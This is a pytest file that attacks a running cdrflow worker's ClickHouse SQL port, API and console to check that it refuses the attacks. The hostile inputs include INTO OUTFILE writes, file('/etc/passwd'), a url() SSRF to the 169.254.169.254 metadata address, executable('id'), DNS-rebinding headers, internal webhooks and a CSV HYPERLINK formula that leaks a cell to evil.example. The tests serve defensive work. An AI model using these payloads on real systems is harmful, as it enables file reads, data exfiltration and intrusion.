"""Hostile requests against a running worker (real broker, chDB), with no token set (the default) and
with one: after each, nothing is written on the host's disk, the warehouse is as it was, and the
answer is ClickHouse's code (SQL port) or the API's refusal.

The attacks: every form of INTO OUTFILE through the SQL port, `cdrflow`'s custom reports and the
API; every private table by every path; table functions and functions that read the host;
settings overrides in the URL, in headers and in SETTINGS; a web page's blind POST and DNS
rebinding (Origin, Sec-Fetch-Site and Host variants) on the SQL port, the API and the console;
alert webhooks to inside addresses in every spelling; a CDR's formula in a CSV export; more
queries at once than allowed; a result past its size limit; SMTP credentials in clear text.
"""

from __future__ import annotations

import concurrent.futures
import csv
import io
import socket
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
import uuid

import orjson
import pytest

from consumers.worker import WorkerProcess
from tests.cdr_factory import make_cdrs, newest_revisions, publish
from tests.consumers.alerts.test_webhook import INSIDE
from tests.hostile import OUTFILE_FORMS, PRIVATE, PRIVATE_PATHS, SECRET
from tests.services import DOCKER, pipeline_settings
from tests.sql_worker import TOKEN

pytestmark = pytest.mark.skipif(DOCKER, reason="the worker runs on the embedded chDB folder")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
RANGE = {"from": "2026-07-01T00:00:00Z", "to": "2026-12-01T00:00:00Z"}  # every CDR of make_cdrs


@pytest.fixture(scope="module")
def open_worker(tmp_path_factory, kafka):
    """(a worker with no token, as `make run` starts one, its folder, a folder outside it)."""
    folder = tmp_path_factory.mktemp("hostile")
    settings = pipeline_settings(kafka.url, f"hostile{uuid.uuid4().hex[:8]}", folder)
    events = make_cdrs(300, seed=77)
    for event in events[:5]:
        event["customer"] = FORMULA
    publish(settings, events)
    worker = WorkerProcess.on_folder(settings, folder)
    worker.env |= {
        "CDRFLOW_SQL_CONCURRENCY": "2",
        "CDRFLOW_SQL_MAX_RESULT_MB": "1",
        "CDRFLOW_ALLOWED_HOSTS": "reports.example",
    }
    worker.env.pop("CDRFLOW_API_TOKEN", None)
    worker.start()
    try:
        worker.wait_until_caught_up(len(events))
        for path, body in (
            ("/api/custom-reports", {"name": "leak", "sql": f"SELECT 1 -- {SECRET}"}),
            ("/api/schedules", {"name": "daily", "email": ["billing@example.com"]}),
            ("/api/alert-rules", {"name": "r", "metric": "asr", "op": "<", "threshold": 30, "window": 5,
                                  "webhook": "https://8.8.8.8/T0KEN-of-the-noc"}),
        ):  # fmt: skip
            assert api(worker, "POST", path, body)[0] == 201, path
        yield worker, events, tmp_path_factory.mktemp("outside")
    finally:
        worker.stop()


def sql(worker, query: str, headers: dict | None = None, token: str | None = None, **params: str):
    """(status, body, headers) of one POST to the SQL port, as curl sends it."""
    url = f"http://127.0.0.1:{worker.env['CDRFLOW_SQL_PORT']}/?{urllib.parse.urlencode(params)}"
    headers = {"Content-Type": "text/plain", **({"X-ClickHouse-Key": token} if token else {}), **(headers or {})}
    request = urllib.request.Request(url, data=query.encode(), headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status, answer.read(), dict(answer.headers)
    except urllib.error.HTTPError as error:
        return error.code, error.read(), dict(error.headers)


def api(worker, method: str, path: str, body: object = None, headers: dict | None = None, token: str | None = None):
    headers = {
        "Content-Type": "application/json",
        **({"Authorization": f"Bearer {token}"} if token else {}),
        **(headers or {}),
    }
    data = None if body is None else orjson.dumps(body)
    request = urllib.request.Request(f"http://127.0.0.1:{worker.port}{path}", data, headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def warehouse_state(worker) -> bytes:
    return sql(worker, "SELECT (SELECT count() FROM cdr), (SELECT groupArray(name) FROM system.tables "
                       "WHERE database = currentDatabase())")[1]  # fmt: skip


@pytest.fixture
def untouched(open_worker):
    """After the test: no probe file anywhere the worker or a query could write, the warehouse as it was."""
    worker, _, outside = open_worker
    before = warehouse_state(worker)
    yield
    written = [str(p) for folder in (worker.cwd, outside) for p in folder.rglob("probe*")]
    assert written == []
    assert warehouse_state(worker) == before


@pytest.mark.parametrize("form", OUTFILE_FORMS)
@pytest.mark.parametrize("where", ["outside", "relative"])
def test_into_outfile_writes_nothing_through_the_port_or_a_custom_report(open_worker, untouched, form, where):
    worker, _, outside = open_worker
    query = form.format(f=outside / "probe.pth" if where == "outside" else "probe.pth")
    status, body, headers = sql(worker, query)
    assert status in (400, 403) and body.startswith(b"Code: "), body
    assert headers["X-ClickHouse-Exception-Code"] in ("62", "164", "358")
    status, answer = api(worker, "POST", f"/api/reports/custom?{urllib.parse.urlencode(RANGE)}", {"sql": query})
    assert status == 400, answer
    status, answer = api(worker, "POST", "/api/custom-reports", {"name": "probe", "sql": query})
    assert status == 400, answer


@pytest.mark.parametrize("table", PRIVATE)
@pytest.mark.parametrize("path", PRIVATE_PATHS)
def test_the_private_tables_are_refused_through_the_port(open_worker, untouched, table, path):
    worker, _, _ = open_worker
    status, body, headers = sql(worker, path.format(t=table).replace("cdrflow_db", "cdrflow"), param_x=table)
    assert (status, headers["X-ClickHouse-Exception-Code"]) == (403, "497"), body
    assert SECRET.encode() not in body and b"billing@example.com" not in body and b"T0KEN" not in body


@pytest.mark.parametrize("table", PRIVATE)
def test_the_private_tables_are_refused_to_custom_reports(open_worker, untouched, table):
    worker, _, _ = open_worker
    status, body = api(worker, "POST", f"/api/reports/custom?{urllib.parse.urlencode(RANGE)}",
                       {"sql": f"SELECT * FROM {table}"})  # fmt: skip
    assert status == 400 and b"ACCESS_DENIED" in body and b"T0KEN" not in body


@pytest.mark.parametrize(
    "query, params, headers, code",
    [
        ("SELECT file('/etc/hostname')", {}, {}, "497"),
        ("SELECT * FROM file('/etc/passwd', 'LineAsString')", {}, {}, "497"),
        ("SELECT * FROM url('http://169.254.169.254/latest/meta-data/', 'LineAsString')", {}, {}, "497"),
        ("SELECT * FROM executable('id', 'TSV', 'x String')", {}, {}, "497"),
        ("SELECT * FROM system.processes", {}, {}, "497"),
        ("SELECT * FROM processes", {"database": "system"}, {}, "497"),
        ("SELECT * FROM processes", {}, {"X-ClickHouse-Database": "system"}, "497"),
        ("SELECT 1", {"readonly": "0"}, {}, "164"),
        ("SELECT 1", {"max_result_rows": "0"}, {}, "164"),
        ("SELECT 1", {"max_execution_time": "0"}, {}, "164"),
        ("SELECT 1 SETTINGS readonly = 0", {}, {}, "164"),
        ("SELECT 1 SETTINGS max_memory_usage = 0", {}, {}, "164"),
        ("SET readonly = 0", {}, {}, "164"),
        ("INSERT INTO cdr (id) VALUES ('probe')", {}, {}, "164"),
        ("CREATE TABLE probe (x UInt8) ENGINE = Memory", {}, {}, "164"),
        ("KILL QUERY WHERE 1", {}, {}, "164"),
        ("SELEC 1", {}, {}, "62"),
        ("SELECT nope FROM cdr", {}, {}, "47"),
    ],
)
def test_what_reads_the_host_or_lifts_a_limit_answers_clickhouses_code(
    open_worker, untouched, query, params, headers, code
):
    worker, _, _ = open_worker
    status, body, answer_headers = sql(worker, query, headers, **params)
    assert answer_headers.get("X-ClickHouse-Exception-Code") == code, body
    assert status != 500 and status >= 400


BROWSER = [
    ({"Origin": "http://evil.example"}, "a web page's blind text/plain POST"),
    ({"Origin": "null"}, "a sandboxed frame"),
    ({"Origin": "http://127.0.0.1:9"}, "another local port's page"),
    ({"Sec-Fetch-Site": "cross-site"}, "a cross-site request without Origin"),
    ({"Host": "evil.example"}, "DNS rebinding"),
    ({"Host": "evil.example:8123"}, "DNS rebinding with a port"),
    ({"Host": "127.0.0.1.nip.io"}, "a name that resolves to loopback"),
    ({"Host": "localhost.evil.example"}, "a name that starts like localhost"),
]


@pytest.mark.parametrize("headers, what", BROWSER)
@pytest.mark.parametrize("with_token", [False, True])
def test_browser_requests_and_rebound_names_are_refused_on_the_port(
    open_worker, sql_worker, untouched, headers, what, with_token
):
    worker = sql_worker[0] if with_token else open_worker[0]
    status, body, answer = sql(
        worker, "SELECT 'probe' INTO OUTFILE 'probe.pth'", headers, TOKEN if with_token else None
    )
    assert status == 403 and b"refused" in body, what
    status, body, answer = sql(worker, "SELECT count() FROM cdr", headers, TOKEN if with_token else None)
    assert status == 403, what


@pytest.mark.parametrize("headers, what", BROWSER)
@pytest.mark.parametrize("with_token", [False, True])
def test_browser_requests_and_rebound_names_are_refused_on_the_api_and_console(
    open_worker, sql_worker, untouched, headers, what, with_token
):
    worker = sql_worker[0] if with_token else open_worker[0]
    token = TOKEN if with_token else None
    query = urllib.parse.urlencode({**RANGE, "group": "customer"})
    assert api(worker, "GET", f"/api/reports/breakout?{query}", headers=headers, token=token)[0] == 403, what
    schedule = {"name": "exfiltrate", "email": ["thief@evil.example"]}
    assert api(worker, "POST", "/api/schedules", schedule, headers=headers, token=token)[0] == 403, what
    assert api(worker, "GET", "/", headers=headers, token=token)[0] == 403, what
    names = [s["name"] for s in orjson.loads(api(worker, "GET", "/api/schedules", token=token)[1])]
    assert "exfiltrate" not in names


@pytest.mark.parametrize(
    "headers",
    [{}, {"Host": "localhost:6066"}, {"Host": "[::1]:6066"}, {"Host": "reports.example"},
     {"Origin": "http://localhost:{port}", "Sec-Fetch-Site": "same-origin"}],
)  # fmt: skip
def test_the_consoles_own_requests_and_the_allowed_names_are_answered(open_worker, headers):
    worker, _, _ = open_worker
    headers = {k: v.format(port=worker.port) for k, v in headers.items()}
    assert api(worker, "GET", f"/api/reports/breakout?{urllib.parse.urlencode(RANGE)}", headers=headers)[0] == 200
    assert sql(worker, "SELECT 1", {k: v for k, v in headers.items() if k != "Host"})[:2] == (200, b"1\n")


@pytest.mark.parametrize("url", INSIDE + ["http://probe.invalid/hook"])
def test_a_webhook_inside_the_house_is_refused_when_the_rule_is_saved(open_worker, untouched, url):
    worker, _, _ = open_worker
    rule = {"name": "inside", "metric": "asr", "op": "<", "threshold": 30, "window": 5, "webhook": url}
    status, body = api(worker, "POST", "/api/alert-rules", rule)
    assert status == 400 and orjson.loads(body)["error"].startswith("webhook: "), body
    assert b"/hook" not in body and b"pass" not in body
    assert "inside" not in [r["name"] for r in orjson.loads(api(worker, "GET", "/api/alert-rules")[1])]


def test_a_cdrs_formula_is_text_in_every_csv(open_worker):
    worker, events, _ = open_worker
    query = urllib.parse.urlencode({**RANGE, "group": "customer", "format": "csv"})
    status, body = api(worker, "GET", f"/api/reports/breakout?{query}")
    assert status == 200
    cells = [row[0] for row in csv.reader(io.StringIO(body.decode()))]
    assert "'" + FORMULA in cells and FORMULA not in cells
    report = {"sql": "SELECT customer, count() AS calls FROM cdr FINAL GROUP BY customer ORDER BY customer"}
    status, body = api(
        worker, "POST", f"/api/reports/custom?{urllib.parse.urlencode({**RANGE, 'format': 'csv'})}", report
    )
    assert status == 200 and ("'" + FORMULA) in [row[0] for row in csv.reader(io.StringIO(body.decode()))]
    assert any(e["customer"] == FORMULA for e in newest_revisions(events).values())


def test_more_queries_at_once_than_allowed_answer_503(open_worker):
    worker, _, _ = open_worker
    slow = "SELECT sleepEachRow(1) FROM numbers(3)"
    with concurrent.futures.ThreadPoolExecutor(3) as pool:
        answers = list(pool.map(lambda _: sql(worker, slow), range(3)))
    statuses = sorted(status for status, _, _ in answers)
    assert statuses == [200, 200, 503], [body for _, body, _ in answers]
    [(_, body, headers)] = [a for a in answers if a[0] == 503]
    assert headers["X-ClickHouse-Exception-Code"] == "202" and b"CDRFLOW_SQL_CONCURRENCY" in body
    assert sql(worker, "SELECT 1")[:2] == (200, b"1\n")


def test_a_result_past_its_size_limit_is_stopped(open_worker):
    worker, _, _ = open_worker
    status, body, headers = sql(
        worker, "SELECT repeat(toString(number), 200) FROM numbers(20000)", wait_end_of_query="1"
    )
    assert (status, headers["X-ClickHouse-Exception-Code"]) == (500, "396"), body[:300]
    assert sql(worker, "SELECT repeat(toString(number), 200) FROM numbers(500)")[0] == 200


def test_smtp_credentials_in_clear_text_to_another_host_stop_the_worker_at_start(tmp_path):
    done = subprocess.run(
        [sys.executable, "-m", "consumers.cli", "worker"], cwd=tmp_path, capture_output=True, text=True, timeout=60,
        env={"PATH": "/usr/bin:/bin", "CDRFLOW_SMTP": "smtp://reports:secret@mail.example.com:587"},
    )  # fmt: skip
    assert done.returncode == 78, done.stderr
    assert "CDRFLOW_SMTP" in done.stderr and "starttls=1" in done.stderr and "secret" not in done.stderr


def test_a_client_that_never_finishes_its_headers_is_disconnected(open_worker):
    worker, _, _ = open_worker
    with socket.create_connection(("127.0.0.1", int(worker.env["CDRFLOW_SQL_PORT"])), timeout=60) as slow:
        slow.sendall(b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")  # and nothing more
        assert slow.recv(1024) == b""  # closed by the worker (HEADER_SECONDS), not by this timeout
    assert sql(worker, "SELECT 1")[:2] == (200, b"1\n")
